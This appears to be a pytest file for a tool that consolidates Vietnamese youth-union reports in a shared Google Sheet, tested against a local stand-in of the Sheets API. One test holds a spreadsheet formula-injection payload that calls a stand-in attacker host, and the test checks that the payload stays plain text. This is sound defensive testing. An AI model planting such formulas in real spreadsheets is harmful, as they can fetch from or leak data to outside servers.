"""The shared Google Sheet door, against a local stand-in of the Sheets API (tests/sheets_standin.py).

Nothing here reaches Google: the stand-in listens on 127.0.0.1, batn's transport adapter sends every
*.googleapis.com request there, and an autouse guard refuses to resolve any other host. The one
live test runs only when BATN_LIVE_GOOGLE_CREDENTIALS and BATN_LIVE_SPREADSHEET are set.
"""
from __future__ import annotations

import json
import os
import random
import socket
from datetime import datetime

import pytest
import requests

pytest.importorskip("gspread")

from gspread.exceptions import APIError  # noqa: E402
from typer.testing import CliRunner  # noqa: E402

from batn.xlsx.package import stamp_saved_time
from batn import layout as L  # noqa: E402
from batn.catalogue import load_catalogue  # noqa: E402
from batn.demo import sample_narratives, sample_values  # noqa: E402
from batn.gsheets import layout as G  # noqa: E402
from batn.gsheets.auth import (AuthError, LoopbackAdapter, SCOPE_DRIVE_FILE, SCOPE_SHEETS, check_api_base,  # noqa: E402
                               connect, explain, load_service_account_info)
from batn.gsheets.cli import gsheets_app  # noqa: E402
from batn.gsheets.consolidate import consolidate_spreadsheets  # noqa: E402
from batn.gsheets.quota import Backoff, QuotaExhausted  # noqa: E402
from batn.gsheets.read import read_spreadsheet  # noqa: E402
from batn.gsheets.setup import setup_spreadsheet, sheets_formula  # noqa: E402
from batn.gsheets.write import plan_write_back  # noqa: E402
from batn.model import Severity  # noqa: E402
from batn.pipeline import consolidate_inbox, load_period  # noqa: E402
from batn.rollup import COVERED, HAS_ERRORS, MISSING, SENT  # noqa: E402
from batn.units import load_units  # noqa: E402
from batn.xlsx.template import write_template  # noqa: E402

from sheets_standin import SheetsStandIn  # noqa: E402

ADMIN = "van.thu.tinh.doan@gmail.com"           # the clerk: signed in as a person (drive.file), creates the sheet
ROBOT = "batn-tong-hop@du-an-doan.iam.gserviceaccount.com"    # a server's service account
AS_OF = datetime(2024, 12, 18, 8, 0)

UNITS = """code,name,parent,level,place,issuer,signer,contact
T,Tỉnh Đoàn Mẫu,,Tỉnh Đoàn,,,,
CD_A,Chi đoàn A,T,Chi đoàn,,,,a@doan.example.vn
CD_B,Chi đoàn B,T,Chi đoàn,,,,b@doan.example.vn
DK_C,Đoàn khối C,T,Đoàn trực thuộc,,,,c@doan.example.vn
CD_C1,Chi đoàn C1,DK_C,Chi đoàn,,,,c1@doan.example.vn
"""


# ------------------------------------------------------------------ fixtures and helpers

@pytest.fixture(autouse=True)
def loopback_only(request, monkeypatch, tmp_path_factory):
    """No test but the opt-in live one may resolve a host other than this machine."""
    if request.node.name.startswith("test_live"):
        return
    real = socket.getaddrinfo

    def guarded(host, *args, **kwargs):
        if host not in ("127.0.0.1", "localhost", "::1"):
            raise OSError(f"a test tried to reach {host}")
        return real(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", guarded)
    monkeypatch.delenv("BATN_SHEETS_API_BASE", raising=False)
    monkeypatch.delenv("BATN_GOOGLE_CREDENTIALS", raising=False)
    monkeypatch.delenv("BATN_GOOGLE_OAUTH_CLIENT", raising=False)
    # never the developer's own sign-in: each test has its own empty configuration folder
    monkeypatch.setenv("BATN_CONFIG_DIR", str(tmp_path_factory.mktemp("cau_hinh")))


class FakeClock:
    """Time for the stand-in's quota window and for batn's backoff sleeps: sleeping moves it."""

    def __init__(self) -> None:
        self.t = 1_000.0
        self.sleeps: list[float] = []

    def now(self) -> float:
        return self.t

    def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)
        self.t += seconds


@pytest.fixture
def standin():
    with SheetsStandIn() as s:
        yield s
        assert s.violations == [], "requests Google's discovery document does not know"


@pytest.fixture(scope="module")
def cat():
    return load_catalogue("3tn-2024")


@pytest.fixture(scope="module")
def period():
    return load_period("2024")


@pytest.fixture
def tree(tmp_path):
    (tmp_path / "don_vi.csv").write_text(UNITS, encoding="utf-8")
    return load_units(tmp_path / "don_vi.csv")


def session_for(standin: SheetsStandIn, email: str, scopes=(SCOPE_SHEETS,)) -> requests.Session:
    s = requests.Session()
    s.headers["Authorization"] = f"Bearer {standin.add_user(email, scopes)}"
    return s


def connect_as(standin: SheetsStandIn, email: str = ADMIN, backoff: Backoff | None = None,
               scopes=(SCOPE_DRIVE_FILE,)):
    """A person signed in with the clerk's scope (drive.file: the files batn created) unless told."""
    return connect(session=session_for(standin, email, scopes), account=email, api_base=standin.base_url,
                   backoff=backoff or Backoff(sleep=lambda s: None, rng=random.Random(0)),
                   kind="service_account" if email.endswith("gserviceaccount.com") else "user")


def fill_tab(standin, key, code, values, cat, *, user=None, narratives=None):
    """Type a unit's figures into its tab, as its clerk would (USER_ENTERED, protections enforced)."""
    tl = G.tab_layout(cat)
    for c, v in values.items():
        standin.type_into(key, f"'{code}'!D{tl.placed[c].row}", str(v), user=user)
    for blk in tl.blocks:
        for i, row in enumerate((narratives or {}).get(blk.nl.key, [])):
            for j, text in enumerate(row):
                standin.type_into(key, f"'{code}'!{G.col_letter(blk.first_col + j)}{blk.first + i}",
                                  text, user=user)


def values_for(cat, seed: int, size: int = 15) -> dict[str, int]:
    return dict(sample_values(cat, random.Random(seed), size))


# ------------------------------------------------------------------ set-up

def test_setup_creates_tabs_validation_protection(standin, tree, cat, period):
    conn = connect_as(standin)
    res = setup_spreadsheet(conn, tree=tree, catalogue=cat, period=period, unit="T")
    key = res.key
    assert res.created and res.units == ["CD_A", "CD_B", "DK_C"]
    titles = standin.titles(key)
    assert titles[0] == G.GUIDE_TAB
    assert set(titles) == {G.GUIDE_TAB, G.CONSOLIDATED_TAB, G.STATUS_TAB, G.FINDINGS_TAB, "CD_A", "CD_B", "DK_C"}
    assert standin.spreadsheets[key].props["locale"] == "vi_VN"

    # The guide records the consolidating unit, period, catalogue and layout; labels are Vietnamese.
    assert standin.values(key, f"'{G.GUIDE_TAB}'!B3:C6") == [["Đơn vị tổng hợp:", "T"], ["Kỳ báo cáo:", "2024"],
                                                             ["Bộ chỉ tiêu:", "3tn-2024"], ["Cách bố trí:", "tabs"]]
    # A unit tab is the Excel template's table, row for row.
    tl = G.tab_layout(cat)
    row = tl.placed["TT_DOANVIEN"].row
    assert standin.values(key, "'CD_A'!B4:C8") == [["Đơn vị:", "Chi đoàn A"], ["Mã đơn vị:", "CD_A"],
                                                   ["Kỳ báo cáo:", "2024"], ["Bộ chỉ tiêu:", "3tn-2024"],
                                                   ["Loại số liệu:", L.KIND_OWN]]
    assert standin.values(key, f"'CD_A'!B{row}")[0][0] == cat["TT_DOANVIEN"].label
    assert standin.values(key, "'DK_C'!C8") == [[L.KIND_TOTAL]]       # a mid-level unit reports its total
    check = standin.cell(key, f"'CD_A'!F{row}")["f"]
    assert check.startswith("=IF(") and ";" in check and "Lỗi" in check     # the template's rule, ";"-separated

    # Data validation on every input cell: whole numbers >= 0, strict; the kind is a list for DK_C only.
    dv = standin.cell(key, f"'CD_A'!D{row}")["dv"]
    assert dv["strict"] and dv["condition"]["type"] == "CUSTOM_FORMULA"
    assert "INT(" in dv["condition"]["values"][0]["userEnteredValue"]
    assert standin.cell(key, "'DK_C'!C8")["dv"]["condition"]["type"] == "ONE_OF_LIST"
    assert "dv" not in standin.cell(key, "'CD_A'!C8")
    assert standin.cell(key, f"'CD_A'!D{row}")["fmt"]["backgroundColor"]["red"] == 1.0   # yellow input

    # Protection: each unit's editor writes only its own inputs; labels and formulas stay batn's.
    for who in ("a@doan.example.vn", "b@doan.example.vn"):
        standin.share(key, who)
    assert standin.can_edit(key, "a@doan.example.vn", f"'CD_A'!D{row}")
    assert standin.can_edit(key, "a@doan.example.vn", f"'CD_A'!B{tl.blocks[0].first}")   # a narrative row
    assert not standin.can_edit(key, "a@doan.example.vn", f"'CD_B'!D{row}")
    assert not standin.can_edit(key, "a@doan.example.vn", f"'CD_A'!B{row}")
    assert not standin.can_edit(key, "a@doan.example.vn", f"'CD_A'!F{row}")
    assert not standin.can_edit(key, "a@doan.example.vn", "'CD_A'!C5")
    assert not standin.can_edit(key, "a@doan.example.vn", f"'{G.CONSOLIDATED_TAB}'!A1")
    assert standin.can_edit(key, ADMIN, f"'CD_B'!B{row}")
    prs = [p for p in standin.protected_ranges(key) if p["sheetTitle"] == "CD_A"]
    assert len(prs) == 2 and all(p["description"].startswith("batn:") for p in prs)

    # Running setup again keeps what units typed and does not pile up protections.
    standin.type_into(key, f"'CD_A'!D{row}", "12", user="a@doan.example.vn")
    again = setup_spreadsheet(conn, tree=tree, catalogue=cat, period=period, unit="T", spreadsheet=key)
    assert not again.created and again.tabs_added == []
    assert standin.values(key, f"'CD_A'!D{row}") == [[12]]
    assert len(standin.protected_ranges(key)) == 3 * 2 + 3 + 1     # unit tabs, output tabs, guide


def test_setup_without_editor_emails_warns_and_protects_by_warning(standin, tree, cat, period):
    conn = connect_as(standin)
    res = setup_spreadsheet(conn, tree=tree, catalogue=cat, period=period, unit="T", editors={"CD_A": ["a@x.vn"]})
    assert any("CD_B" in w for w in res.warnings)
    area = [p for p in standin.protected_ranges(res.key) if p["description"] == "batn: ô nhập của CD_B"][0]
    assert area["warningOnly"] is True and "editors" not in area


def test_batch_get_ranges_split_only_past_the_url_budget():
    from batn.gsheets.read import chunk_ranges

    tabs = [G.quote_tab(f"CD_{i:04d}") for i in range(1000)]
    assert len(chunk_ranges(tabs[:250])) == 1
    parts = chunk_ranges(tabs)
    assert sum(parts, []) == tabs and 3 <= len(parts) <= 4


def test_formulas_use_semicolons_outside_strings():
    assert sheets_formula('=IF(AND(A1>0,B1<2),"a, b",C1)') == '=IF(AND(A1>0;B1<2);"a, b";C1)'


# ------------------------------------------------------------------ 100 units, 5 requests, same totals

@pytest.fixture(scope="module")
def hundred(tmp_path_factory, cat, period):
    """100 units under one Tỉnh Đoàn: the same figures as xlsx files and in one shared spreadsheet."""
    tmp = tmp_path_factory.mktemp("hundred")
    lines = ["code,name,parent,level,place,issuer,signer,contact", "TD,Tỉnh Đoàn Thử,,Tỉnh Đoàn,,,,"]
    codes = [f"CD_{i:03d}" for i in range(1, 100)] + ["DK_100"]
    for c in codes:
        kind = "Đoàn trực thuộc" if c == "DK_100" else "Chi đoàn"
        lines.append(f"{c},Đơn vị {c},TD,{kind},,,,{c.lower()}@doan.example.vn")
    lines += ["CD_100A,Chi đoàn 100A,DK_100,Chi đoàn,,,,", "CD_100B,Chi đoàn 100B,DK_100,Chi đoàn,,,,"]
    (tmp / "don_vi.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    tree = load_units(tmp / "don_vi.csv")
    rng = random.Random(2024)
    figures: dict[str, dict] = {}
    for c in codes:
        if c in ("CD_003", "CD_050"):            # never sent
            continue
        values: dict[str, object] = dict(sample_values(cat, rng, rng.randint(8, 40)))
        narratives = sample_narratives(rng, tree[c].name)
        if c == "CD_007":                        # more members than young cadres: lỗi
            values["TT_DOANVIEN"] = int(values["TT_CBCCVC_TRE"]) + 5
        if c == "CD_008":                        # typed with its unit noun: read as 15868
            values["TK_HOINGHI_LUOT"] = "15.868 lượt"
        if c == "CD_009":                        # 1,644: never summed (ambiguous in xlsx, 1.644 in vi_VN)
            values["CD_HIENMAU"] = "1,644"
        figures[c] = {"values": values, "narratives": narratives}

    inbox = tmp / "inbox"
    sent_at = datetime(2024, 12, 10, 9, 0).timestamp()
    for c, f in figures.items():
        path = write_template(inbox / f"{c}.xlsx", cat, tree[c], period, values=f["values"],
                              narratives=f["narratives"], has_children=bool(tree.children[c]),
                              kind=L.KIND_TOTAL if c == "DK_100" else L.KIND_OWN)
        stamp_saved_time(path, datetime.fromtimestamp(sent_at))
    xlsx = consolidate_inbox(inbox, tree, cat, period, as_of=AS_OF)

    with SheetsStandIn() as standin:
        admin = connect_as(standin)
        res = setup_spreadsheet(admin, tree=tree, catalogue=cat, period=period, unit="TD")
        setup_requests = admin.counter.total
        for c, f in figures.items():
            email = f"{c.lower()}@doan.example.vn"
            standin.share(res.key, email)
            fill_tab(standin, res.key, c, f["values"], cat, user=email, narratives=f["narratives"])
        standin.reset_log()
        conn = connect_as(standin)
        run = consolidate_spreadsheets(conn, [res.key], tree, cat, period, as_of=AS_OF)
        log = standin.api_requests()
        state = {"consolidated": standin.values(res.key, f"'{G.CONSOLIDATED_TAB}'!A1:E80"),
                 "status": standin.values(res.key, f"'{G.STATUS_TAB}'!A1:I110"),
                 "mark": standin.cell(res.key, f"'CD_007'!D{G.tab_layout(cat).placed['TT_DOANVIEN'].row}")}
    return {"tree": tree, "xlsx": xlsx, "run": run, "log": log, "counter": conn.counter, "state": state,
            "setup_requests": setup_requests}


def test_hundred_units_in_at_most_five_requests(hundred, capsys):
    log = hundred["log"]
    with capsys.disabled():
        print(f"\n100 đơn vị: {len(log)} lệnh gọi API khi tổng hợp "
              f"({', '.join(f'{e.method} {e.path.rsplit(chr(47), 1)[-1]}' for e in log)}); "
              f"tạo bảng tính: {hundred['setup_requests']} lệnh")
    assert len(log) <= 5
    assert [e.kind for e in log].count("read") == 3 and [e.kind for e in log].count("write") == 2
    assert all(e.status == 200 for e in log)
    batch_get = [e for e in log if e.path.endswith("values:batchGet")]
    assert len(batch_get) == 1 and len(batch_get[0].ranges) == 101       # guide + 100 unit tabs, one call
    assert hundred["counter"].total == len(log)


def test_hundred_units_same_totals_as_xlsx(hundred):
    gs, xl = hundred["run"].consolidation, hundred["xlsx"]
    assert gs.totals == xl.totals
    assert {c: r.status for c, r in gs.units.items()} == {c: r.status for c, r in xl.units.items()}
    assert gs.units["CD_003"].status == MISSING and gs.units["CD_007"].status == HAS_ERRORS
    assert gs.units["CD_100A"].status == COVERED and gs.units["CD_010"].status == SENT
    assert gs.narratives == xl.narratives
    assert len(gs.sent) == len(xl.sent) == 98
    # the same findings, but for the "1,644" cell: ambiguous in xlsx, read as 1,644 (a fraction) in vi_VN
    kinds = lambda cons: {(f.unit, f.kind) for f in cons.findings if f.unit != "CD_009"}  # noqa: E731
    assert kinds(gs) == kinds(xl)
    assert ("CD_009", "fractional") in {(f.unit, f.kind) for f in gs.findings}


def test_hundred_units_written_back(hundred, cat):
    state, cons = hundred["state"], hundred["run"].consolidation
    row = next(r for r in state["consolidated"] if len(r) > 4 and r[4] == "TT_DOANVIEN")
    assert row[3] == cons.totals["TT_DOANVIEN"]
    statuses = {r[1]: r[4] for r in state["status"][3:]}
    assert statuses["CD_003"] == MISSING and statuses["CD_007"] == HAS_ERRORS and statuses["CD_010"] == SENT
    assert state["mark"]["note"].startswith("[batn kiểm tra]\n[lỗi]") and state["mark"]["fmt"]["backgroundColor"]["red"] > 0.9


# ------------------------------------------------------------------ quota: backoff, storms, the bound

@pytest.fixture
def small(standin, tree, cat, period):
    """Set up a spreadsheet for T's three units and fill two of them."""
    conn = connect_as(standin)
    key = setup_spreadsheet(conn, tree=tree, catalogue=cat, period=period, unit="T").key
    fill_tab(standin, key, "CD_A", values_for(cat, 1), cat)
    fill_tab(standin, key, "CD_B", values_for(cat, 2), cat)
    standin.reset_log()
    return key


def test_429_storm_is_survived_with_bounded_backoff(standin, small, tree, cat, period):
    clock = FakeClock()
    conn = connect_as(standin, backoff=Backoff(retries=6, sleep=clock.sleep, rng=random.Random(1)))
    standin.storm(5, statuses=(429, 503))
    run = consolidate_spreadsheets(conn, [small], tree, cat, period, as_of=AS_OF)
    log = standin.api_requests()
    assert [e.status for e in log[:5]] == [429, 503, 429, 503, 429]
    assert [e.status for e in log[5:]] == [200, 200, 200, 200, 200]
    assert len(clock.sleeps) == 5
    assert all(2 ** i <= s <= 2 ** i + 1 for i, s in enumerate(clock.sleeps))     # exponential, with jitter
    assert run.consolidation.totals["TT_DOANVIEN"] == (values_for(cat, 1)["TT_DOANVIEN"]
                                                       + values_for(cat, 2)["TT_DOANVIEN"])
    assert "5 lần bị từ chối tạm thời" in conn.counter.summary()
    assert conn.counter.total == 10


def test_per_minute_quota_is_waited_out(standin, small, tree, cat, period):
    clock = FakeClock()
    standin.quota, standin.window, standin.clock = 1, 60.0, clock.now   # 1 read and 1 write per minute
    conn = connect_as(standin, backoff=Backoff(retries=8, sleep=clock.sleep, rng=random.Random(2)))
    run = consolidate_spreadsheets(conn, [small], tree, cat, period, as_of=AS_OF)
    log = standin.api_requests()
    assert [e.status for e in log].count(200) == 5 and [e.status for e in log].count(429) >= 2
    assert all(e.status in (200, 429) for e in log)
    assert clock.t - 1_000.0 >= 60                   # it really waited for the next minute
    assert sum(clock.sleeps) == pytest.approx(conn.counter.waited)
    assert run.consolidation.units["CD_A"].status == SENT


def test_storm_past_the_bound_fails_with_a_clear_message(standin, small, tree, cat, period):
    clock = FakeClock()
    conn = connect_as(standin, backoff=Backoff(retries=3, sleep=clock.sleep, rng=random.Random(3)))
    standin.storm(100, statuses=(429,))
    with pytest.raises(QuotaExhausted) as e:
        consolidate_spreadsheets(conn, [small], tree, cat, period, as_of=AS_OF)
    msg = str(e.value)
    assert "vượt hạn mức" in msg and "đã thử 4 lần" in msg and "chạy lại sau vài phút" in msg
    assert len(clock.sleeps) == 3 and len(standin.api_requests()) == 4


def test_cli_reports_exhausted_quota_in_vietnamese(standin, small, tmp_path, monkeypatch):
    (tmp_path / "u.csv").write_text(UNITS, encoding="utf-8")
    monkeypatch.setattr("time.sleep", lambda s: None)        # the CLI's default backoff, without the wait
    standin.storm(100, statuses=(503,))
    r = CliRunner().invoke(gsheets_app, ["consolidate", small, "--units", str(tmp_path / "u.csv"),
                                         "--catalog", "3tn-2024", "--period", "2024", "--api-base", standin.base_url,
                                         "--credentials", str(_sa_file(tmp_path, standin))])
    assert r.exit_code == 2
    assert "máy chủ Google đang lỗi tạm thời (mã 503)" in r.output


# ------------------------------------------------------------------ protection, ranges, text safety

def test_wrong_user_writing_a_protected_range_gets_403(standin, tree, cat, period):
    key = setup_spreadsheet(connect_as(standin), tree=tree, catalogue=cat, period=period, unit="T").key
    for who in ("a@doan.example.vn", "b@doan.example.vn"):
        standin.share(key, who)
    row = G.tab_layout(cat).placed["TT_DOANVIEN"].row
    unit_a = connect_as(standin, "a@doan.example.vn", scopes=(SCOPE_SHEETS,))
    unit_b = connect_as(standin, "b@doan.example.vn", scopes=(SCOPE_SHEETS,))
    # The real gspread high-level API, as a clerk's script would use it.
    unit_a.client.open_by_key(key).worksheet("CD_A").update_acell(f"D{row}", "1.644")
    assert standin.values(key, f"'CD_A'!D{row}") == [[1644]]                # vi_VN: "." groups thousands
    with pytest.raises(APIError) as e:
        unit_b.client.open_by_key(key).worksheet("CD_A").update_acell(f"D{row}", "9")
    assert e.value.response.status_code == 403
    assert e.value.error["status"] == "PERMISSION_DENIED" and "protected cell" in e.value.error["message"]
    assert "không được sửa vùng đang được bảo vệ" in str(explain(e.value, key, "b@doan.example.vn"))
    assert standin.values(key, f"'CD_A'!D{row}") == [[1644]]
    with pytest.raises(APIError) as e:                                      # not a label either, even its own
        unit_a.http.values_update(key, f"'CD_A'!B{row}", params={"valueInputOption": "RAW"},
                                  body={"values": [["sửa nhãn"]]})
    assert e.value.response.status_code == 403


def test_bad_ranges_are_400(standin, tree, cat, period):
    conn = connect_as(standin)
    key = setup_spreadsheet(conn, tree=tree, catalogue=cat, period=period, unit="T").key
    for bad in ("'Không có trang này'!A1", "'CD_A'!A0", "'CD_A'!1:A", "'CD_A"):
        with pytest.raises(APIError) as e:
            conn.http.values_get(key, bad)
        assert e.value.response.status_code == 400 and "Unable to parse range" in e.value.error["message"]
    with pytest.raises(APIError) as e:
        conn.http.values_update(key, "'CD_A'!A5000", params={"valueInputOption": "RAW"}, body={"values": [["x"]]})
    assert "exceeds grid limits" in e.value.error["message"]
    assert "mã 400" in str(explain(e.value, key))
    # whole columns, open-ended rows and single cells read as Google reads them
    assert conn.http.values_get(key, "'CD_A'!C5")["values"] == [["CD_A"]]
    assert conn.http.values_get(key, "'CD_A'!B4:B")["range"].startswith("CD_A!B4:B")
    assert conn.http.values_get(key, "'CD_A'!C:C")["values"][4] == ["CD_A"]


def test_formula_looking_narrative_stays_text(standin, tree, cat, period):
    conn = connect_as(standin)
    key = setup_spreadsheet(conn, tree=tree, catalogue=cat, period=period, unit="T").key
    evil = '=IMPORTXML("http://attacker.example/x","//a")'
    # The clerk's cell holds this as text (typed with a leading apostrophe).
    fill_tab(standin, key, "CD_A", values_for(cat, 1), cat,
             narratives={"mo_hinh": [(f"'{evil}", "'+84 912 345 678", "'@all -gửi")],
                         "de_xuat": [("'-Đề nghị tăng kinh phí",)]})
    run = consolidate_spreadsheets(conn, [key], tree, cat, period, as_of=AS_OF)
    assert run.consolidation.narratives["mo_hinh"] == [("Chi đoàn A", (evil, "+84 912 345 678", "@all -gửi"))]
    assert [e.input_option for e in standin.api_requests() if e.path.endswith("values:batchUpdate")] == ["RAW"]
    table = standin.values(key, f"'{G.CONSOLIDATED_TAB}'!A1:D200", render="FORMULA")
    where = next(i for i, r in enumerate(table, start=1) if r and r[0] == "Chi đoàn A" and len(r) > 1)
    for col, text in zip("BCD", (evil, "+84 912 345 678", "@all -gửi")):
        cell = standin.cell(key, f"'{G.CONSOLIDATED_TAB}'!{col}{where}")
        assert cell["v"] == text and "f" not in cell                    # text, not a formula
    kept = next(r for r in table if r and r[0] == "Chi đoàn A" and r[1].startswith("-"))
    assert kept[1] == "-Đề nghị tăng kinh phí"
    # The stand-in would have made it a formula had batn written it USER_ENTERED: the test bites.
    standin.set_values(key, f"'{G.CONSOLIDATED_TAB}'!Z1", [[evil]], option="USER_ENTERED")
    assert standin.cell(key, f"'{G.CONSOLIDATED_TAB}'!Z1")["f"] == evil


def test_findings_marked_on_cells_and_cleared_next_run(standin, tree, cat, period):
    conn = connect_as(standin)
    key = setup_spreadsheet(conn, tree=tree, catalogue=cat, period=period, unit="T").key
    row = G.tab_layout(cat).placed["TT_DOANVIEN"].row
    bad = values_for(cat, 1)
    bad["TT_DOANVIEN"] = bad["TT_CBCCVC_TRE"] + 3
    fill_tab(standin, key, "CD_A", bad, cat)
    standin.type_into(key, f"'CD_B'!D{row}", "mười")                     # text in a figure cell
    run = consolidate_spreadsheets(conn, [key], tree, cat, period, as_of=AS_OF)
    assert run.consolidation.units["CD_A"].status == HAS_ERRORS
    assert [m.cell for m in run.plans[0].marks if m.sheet == "CD_A"] == [f"D{row}"]
    note = standin.cell(key, f"'CD_A'!D{row}")["note"]
    assert note.startswith("[batn kiểm tra]\n[lỗi]") and cat["TT_CBCCVC_TRE"].label in note
    assert "không phải là số" in standin.cell(key, f"'CD_B'!D{row}")["note"]
    findings = standin.values(key, f"'{G.FINDINGS_TAB}'!A1:G20")
    assert findings[0] == ["STT", "Mức độ", "Đơn vị", "Nguồn", "Ô", "Chỉ tiêu", "Nội dung"]
    assert {r[1] for r in findings[1:]} >= {"lỗi", "cảnh báo"}
    # fixed: the next run takes the mark away
    standin.type_into(key, f"'CD_A'!D{row}", str(bad["TT_CBCCVC_TRE"]))
    consolidate_spreadsheets(conn, [key], tree, cat, period, as_of=AS_OF)
    cell = standin.cell(key, f"'CD_A'!D{row}")
    assert "note" not in cell and cell["fmt"]["backgroundColor"] == {"red": 1.0, "green": 242 / 255,
                                                                     "blue": 204 / 255}


# ------------------------------------------------------------------ one spreadsheet per unit, and rows

def test_one_spreadsheet_per_unit(standin, tree, cat, period):
    conn = connect_as(standin)
    keys = {c: setup_spreadsheet(conn, tree=tree, catalogue=cat, period=period, unit="T", only=c).key
            for c in ("CD_A", "CD_B", "DK_C")}
    assert standin.titles(keys["CD_A"]) == [G.GUIDE_TAB, G.CONSOLIDATED_TAB, G.STATUS_TAB, G.FINDINGS_TAB, "CD_A"]
    for i, (c, key) in enumerate(keys.items(), start=1):
        fill_tab(standin, key, c, values_for(cat, i), cat)
    bad_row = G.tab_layout(cat).placed["CD_QUA_SO"].row
    standin.type_into(keys["CD_B"], f"'CD_B'!D{bad_row}", "-2")
    standin.reset_log()
    run = consolidate_spreadsheets(conn, list(keys.values()), tree, cat, period, as_of=AS_OF)
    cons = run.consolidation
    assert run.root == "T"
    assert cons.totals["TT_CBCCVC_TRE"] == sum(values_for(cat, i)["TT_CBCCVC_TRE"] for i in (1, 2, 3))
    assert cons.units["CD_C1"].status == COVERED                  # DK_C sent its total
    assert len(standin.api_requests()) == 5 * 3
    # the first spreadsheet gets the summary; each gets its own findings and marks
    assert standin.values(keys["CD_A"], f"'{G.STATUS_TAB}'!A1")[0][0].startswith("Đã gửi báo cáo: 3/3")
    assert standin.values(keys["CD_B"], f"'{G.STATUS_TAB}'!A1") == []
    assert "[lỗi]" in standin.cell(keys["CD_B"], f"'CD_B'!D{bad_row}")["note"]
    b_findings = standin.values(keys["CD_B"], f"'{G.FINDINGS_TAB}'!C2:C20")
    assert b_findings and all(r == [tree["CD_B"].name] for r in b_findings)     # the unit by its name


def test_rows_layout(standin, tree, cat, period):
    conn = connect_as(standin)
    res = setup_spreadsheet(conn, tree=tree, catalogue=cat, period=period, unit="T", layout=G.ROWS)
    key = res.key
    assert G.ROWS_TAB in standin.titles(key) and "Mô hình tiêu biểu" in standin.titles(key)
    rl = G.RowsLayout(cat, tuple(res.units))
    for who in ("a@doan.example.vn", "b@doan.example.vn"):
        standin.share(key, who)
    col = G.col_letter(rl.column("TT_DOANVIEN"))
    ra, rb = rl.unit_row("CD_A"), rl.unit_row("CD_B")
    assert standin.values(key, f"'{G.ROWS_TAB}'!A{ra}:C{ra}") == [["CD_A", "Chi đoàn A", L.KIND_OWN]]
    assert standin.can_edit(key, "a@doan.example.vn", f"'{G.ROWS_TAB}'!{col}{ra}")
    assert not standin.can_edit(key, "a@doan.example.vn", f"'{G.ROWS_TAB}'!{col}{rb}")
    assert not standin.can_edit(key, "a@doan.example.vn", f"'{G.ROWS_TAB}'!A{ra}")
    assert standin.can_edit(key, "a@doan.example.vn", f"'{G.ROWS_TAB}'!C{rl.unit_row('DK_C')}") is False
    for code, seed, user in (("CD_A", 1, "a@doan.example.vn"), ("CD_B", 2, "b@doan.example.vn")):
        for c, v in values_for(cat, seed).items():
            standin.type_into(key, f"'{G.ROWS_TAB}'!{G.col_letter(rl.column(c))}{rl.unit_row(code)}", str(v),
                              user=user)
    nl = G.RowsNarrativeLayout(cat.narratives[0], tuple(res.units))
    first, _last = nl.block("CD_B")
    standin.type_into(key, f"'{nl.nl.sheet}'!D{first}", "Tủ sách pháp luật điện tử", user="b@doan.example.vn")
    assert not standin.can_edit(key, "a@doan.example.vn", f"'{nl.nl.sheet}'!D{first}")
    standin.type_into(key, f"'{G.ROWS_TAB}'!{col}{ra}", "1,644")                    # 1.644 in vi_VN: a fraction
    standin.reset_log()
    run = consolidate_spreadsheets(conn, [key], tree, cat, period, as_of=AS_OF)
    cons = run.consolidation
    assert len(standin.api_requests()) == 5
    assert cons.totals["TT_CBCCVC_TRE"] == values_for(cat, 1)["TT_CBCCVC_TRE"] + values_for(cat, 2)["TT_CBCCVC_TRE"]
    assert cons.totals["TT_DOANVIEN"] == values_for(cat, 2)["TT_DOANVIEN"]       # CD_A's 1,644 left out
    assert cons.units["CD_A"].status == HAS_ERRORS and cons.units["DK_C"].status == MISSING
    assert cons.narratives["mo_hinh"] == [("Chi đoàn B", ("Tủ sách pháp luật điện tử", "", ""))]
    assert "[lỗi]" in standin.cell(key, f"'{G.ROWS_TAB}'!{col}{ra}")["note"]
    # re-running setup keeps every unit on its row
    setup_spreadsheet(conn, tree=tree, catalogue=cat, period=period, unit="T", layout=G.ROWS, spreadsheet=key)
    assert standin.values(key, f"'{G.ROWS_TAB}'!{col}{rb}") == [[values_for(cat, 2)["TT_DOANVIEN"]]]


def test_reader_skips_foreign_tabs_and_reads_empty_tabs_as_missing(standin, tree, cat, period):
    conn = connect_as(standin)
    key = setup_spreadsheet(conn, tree=tree, catalogue=cat, period=period, unit="T").key
    conn.http.batch_update(key, {"requests": [{"addSheet": {"properties": {"title": "Nháp của văn phòng"}}}]})
    fill_tab(standin, key, "CD_A", values_for(cat, 1), cat)
    read = read_spreadsheet(conn.http, key, cat)
    assert read.skipped == ["Nháp của văn phòng"]
    assert [s.unit for s in read.submissions] == ["CD_A"] and set(read.empty) == {"CD_B", "DK_C"}
    assert read.guide.root == "T" and read.requests == 2
    plan = plan_write_back(read, _cons_for(read, tree, cat, period), summary=True)
    assert plan.tab_values(G.STATUS_TAB)[0][0].startswith("Đã gửi báo cáo: 1/4")


def test_standin_behaves_as_google_where_batn_relies_on_it(standin):
    owner = connect_as(standin, scopes=(SCOPE_SHEETS,))          # a sheet made by hand: the spreadsheets scope
    key = standin.new_spreadsheet("Thử", ADMIN, locale="en_US", sheets=("Sheet1",))
    http = owner.http
    # batchUpdate is atomic: the bad second request leaves the first unapplied
    with pytest.raises(APIError) as e:
        http.batch_update(key, {"requests": [{"addSheet": {"properties": {"title": "Mới"}}},
                                             {"deleteSheet": {"sheetId": 424242}}]})
    assert e.value.response.status_code == 400 and standin.titles(key) == ["Sheet1"]
    # USER_ENTERED follows the locale; RAW keeps text; null skips a cell
    http.values_update(key, "Sheet1!A1", params={"valueInputOption": "USER_ENTERED"},
                       body={"values": [["1,644", "1.5", "'007", "TRUE", "12/25/2024"]]})
    http.values_update(key, "Sheet1!A2", params={"valueInputOption": "RAW"}, body={"values": [["1,644", None, "=1+1"]]})
    http.values_update(key, "Sheet1!B2", params={"valueInputOption": "RAW"}, body={"values": [[None]]})
    got = http.values_get(key, "Sheet1!A1:E2", params={"valueRenderOption": "UNFORMATTED_VALUE",
                                                          "dateTimeRenderOption": "FORMATTED_STRING"})
    assert got["values"] == [[1644, 1.5, "007", True, "12/25/2024"], ["1,644", "", "=1+1"]]
    assert http.values_get(key, "Sheet1!A1:B1")["values"] == [["1644", "1.5"]]          # FORMATTED_VALUE
    cols = http.values_get(key, "Sheet1!A1:B2", params={"majorDimension": "COLUMNS",
                                                        "valueRenderOption": "UNFORMATTED_VALUE"})
    assert cols["values"] == [[1644, "1,644"], [1.5]]
